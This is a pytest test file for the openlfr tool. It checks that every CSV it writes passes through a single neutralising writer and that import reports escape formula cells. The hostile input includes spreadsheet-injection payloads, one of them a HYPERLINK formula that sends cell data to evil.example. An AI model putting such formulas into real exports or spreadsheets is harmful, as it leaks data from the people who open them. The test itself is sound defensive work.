"""Issue 25 item 5: every CSV openlfr writes goes through the one neutralising writer
(:func:`openlfr.safetext.write_csv`), ``gallery import --report`` included."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from openlfr.cli import app
from openlfr.config import Settings, get_settings
from openlfr.store.auth_models import Role
from tests.cli_login import cli_token

ROOT = Path(__file__).resolve().parents[2]
WRITERS = re.compile(r"csv\.(writer|DictWriter)\(")


def test_no_csv_writer_outside_the_neutralising_one() -> None:
    found = [
        str(p.relative_to(ROOT))
        for folder in ("src", "benchmarks", "scripts")
        for p in (ROOT / folder).rglob("*.py")
        if WRITERS.search(p.read_text(encoding="utf-8"))
    ]
    assert found == ["src/openlfr/safetext.py"], found


def test_gallery_import_report_neutralises_formula_cells(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings = Settings(data_dir=tmp_path / "openlfr")
    images = tmp_path / "images"
    images.mkdir()
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+cmd", "-2+3"]
    source = tmp_path / "custody.csv"
    with source.open("w", newline="") as fh:
        w = csv.writer(fh)  # the test's own input file, hostile on purpose
        w.writerow(["record_id", "image"])
        w.writerows([rec, f"{rec[:1]}missing{i}.jpg"] for i, rec in enumerate(hostile))
    report = tmp_path / "report.csv"
    monkeypatch.setenv("OPENLFR_DATA_DIR", str(settings.data_dir))
    monkeypatch.setenv("OPENLFR_TOKEN", cli_token(settings, Role.ADMIN))
    get_settings.cache_clear()
    try:
        r = CliRunner().invoke(
            app, ["gallery", "import", str(source), "--images", str(images), "--report", str(report)]
        )
    finally:
        get_settings.cache_clear()
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(report.open(newline="")))
    assert rows[0] == ["line", "record_id", "image", "outcome", "reason"]
    cells = [c for row in rows[1:] for c in row]
    assert sorted(row[1] for row in rows[1:]) == sorted("'" + h for h in hostile)
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
